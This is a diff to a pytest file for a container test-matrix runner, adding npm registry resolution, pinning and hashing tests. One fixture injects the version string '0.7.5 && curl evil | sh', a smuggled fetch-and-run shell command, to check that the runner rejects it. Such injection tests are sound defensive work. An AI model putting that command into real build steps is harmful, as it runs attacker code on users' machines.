@@ -15,7 +15,7 @@ from runner.cli import main
 from runner.engines.images import content_hash, image_plan
 from runner.errors import ConfigError
 from runner.matrix.load import parse_matrix
-from runner.matrix.model import Matrix, Resolution, Track
+from runner.matrix.model import Matrix, Resolution, Track, Tracked
 from runner.results import history
 from runner.results.model import SCHEMA_VERSION, EnvStatus, Results
 from runner.versions import index, resolve
@@ -149,7 +149,8 @@ def test_an_answer_that_is_not_a_version_never_reaches_a_dockerfile() -> None:
 @pytest.mark.parametrize(
     ("packages", "base", "channel", "expected"),
     [
-        ('["zarr>={zarr}"]', "debian:trixie", "pip", "write the requirement as NAME=={axis}"),
+        ('["zarr>={zarr}"]', "debian:trixie", "pip", "write the entry as NAME=={axis}"),
+        ('["zarrita@^{zarr}"]', "debian:trixie", "npm", "write the entry as NAME@{axis}"),
         ('["zarr=={zarr}"]', "debian:{zarr}", "pip", "picks a package version, not a base image"),
         ('["python3-zarr{zarr}"]', "debian:trixie", "apt", "a Debian package's version is the suite's"),
     ],
@@ -173,7 +174,85 @@ environments:
 def test_tracks_keep_the_slug_stable_across_releases() -> None:
     matrix = parse_matrix(MATRIX.replace('    name: "zarr-{zarr}-py3.13"\n', ""), "m.yaml")
     assert [e.slug for e in matrix.environments][:2] == ["zarr-latest-pip-py3.13", "zarr-latest-pre-pip-py3.13"]
-    assert matrix.environments[0].tracks == (("zarr", Track.LATEST), ("numcodecs", Track.LATEST))
+    assert matrix.environments[0].tracks == (
+        Tracked(name="zarr", track=Track.LATEST, registry="pypi"),
+        Tracked(name="numcodecs", track=Track.LATEST, registry="pypi"),
+    )
+
+
+NPM = """
+version: 1
+fixtures: [int32-random]
+environments:
+  - base: debian:trixie
+    channel: npm
+    packages: ["zarrita@{zarrita}", "@zarrita/storage@{storage}", "numcodecs@0.3.2"]
+    pip: ["numpy=={numpy}"]
+    matrix:
+      zarrita: [latest, latest-pre, "0.5.4"]
+      storage: [latest]
+      numpy: [latest]
+"""
+
+
+def test_npm_latest_is_asked_of_the_registry_and_pinned_like_pypis() -> None:
+    """npm versions may be written latest (the registry's latest dist-tag) or latest-pre (the version
+    published last): asked once each, installed exactly, recorded, and in the image hash."""
+    index = replace(
+        DEFAULT,
+        asked=[],
+        npm={"zarrita": ("0.7.5", "0.8.0-next.1"), "@zarrita/storage": ("0.2.0", "0.2.0")},
+        pypi={("numpy", "3.13"): ("2.5.5", "2.6.0rc1")},
+    )
+    matrix, answers = resolved(index, text=NPM)
+    by_slug = {e.slug: e for e in matrix.environments}
+    assert list(by_slug) == ["zarrita-latest-npm-trixie", "zarrita-latest-pre-npm-trixie", "zarrita-0.5.4-npm-trixie"]
+    latest = by_slug["zarrita-latest-npm-trixie"]
+    assert latest.packages == ("zarrita@0.7.5", "@zarrita/storage@0.2.0", "numcodecs@0.3.2")
+    assert latest.pip == ("numpy==2.5.5",) and latest.asked == {
+        "zarrita": "latest",
+        "@zarrita/storage": "latest",
+        "numpy": "latest",
+    }
+    assert by_slug["zarrita-latest-pre-npm-trixie"].packages[0] == "zarrita@0.8.0-next.1"
+    assert by_slug["zarrita-0.5.4-npm-trixie"].packages[0] == "zarrita@0.5.4"
+    assert sum(1 for a in index.asked if a[:2] == ("npm", "@zarrita/storage")) == 1  # one question, shared
+    zarrita = answers["npm zarrita registry latest"]
+    assert (zarrita.version, zarrita.released, zarrita.source, zarrita.registry) == (
+        "0.7.5",
+        "2026-11-12",
+        "npm registry",
+        "npm",
+    )
+    newer = replace(index, npm={**index.npm, "zarrita": ("0.7.6", "0.8.0-next.1")})
+    again = {e.slug: e for e in resolved(newer, text=NPM)[0].environments}
+    assert content_hash(again["zarrita-latest-npm-trixie"]) != content_hash(latest)
+    assert content_hash(again["zarrita-0.5.4-npm-trixie"]) == content_hash(by_slug["zarrita-0.5.4-npm-trixie"])
+    # no registry: the answer recorded before, said so; an answer that is not a version never reaches npm
+    offline, _ = resolved(replace(index, down=True), recorded=answers, text=NPM)
+    kept = next(r for r in offline.environments[0].resolved if r.package == "zarrita")
+    assert kept.recorded and kept.version == "0.7.5" and "no index answered" in kept.note
+    evil = replace(index, npm={**index.npm, "zarrita": ("0.7.5 && curl evil | sh", "x")})
+    bad = resolved(evil, text=NPM)[0].environments[0]
+    assert bad.unresolved is not None and "non-version" in bad.unresolved
+    assert resolve.recorded_in([]) == {}
+
+
+def test_the_npm_registrys_document_is_read_with_care() -> None:
+    doc = {
+        "dist-tags": {"latest": "0.7.5", "next": "0.8.0-next.1"},
+        "versions": {"0.7.5": {}, "0.8.0-next.1": {}, "0.6.0": {}},
+        "time": {"created": "2023-01-01T00:00:00Z", "0.6.0": "2025-01-01T00:00:00Z",
+                 "0.7.5": "2026-09-30T10:00:00.000Z", "0.8.0-next.1": "2026-11-12T08:00:00.000Z"},
+    }  # fmt: skip
+    assert index.newest_npm(doc, False, "u") == index.Newest(version="0.7.5", released="2026-09-30")
+    assert index.newest_npm(doc, True, "u").version == "0.8.0-next.1"  # "created" is not a version
+    with pytest.raises(index.IndexUnavailable, match="no latest dist-tag"):
+        index.newest_npm({"versions": {}}, False, "u")
+    with pytest.raises(index.IndexUnavailable, match="not a package document"):
+        index.newest_npm(["x"], False, "u")
+    with pytest.raises(LookupError, match="no such package"):
+        index.newest_npm({"error": "Not found"}, False, "u")
 
 
 def test_packages_index_and_release_dates_are_parsed() -> None:
